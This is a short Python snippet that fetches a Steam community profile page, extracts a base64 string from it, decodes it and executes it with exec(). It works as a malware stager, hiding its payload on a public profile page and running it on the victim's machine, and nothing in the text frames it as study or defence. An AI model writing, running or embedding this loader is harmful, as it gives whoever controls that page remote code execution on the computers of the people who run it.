import base64, re, requests
page = requests.get("https://steamcommunity.com/profiles/00000000000000000").text
exec(base64.b64decode(re.search("x(.*)x", page).group(1)))
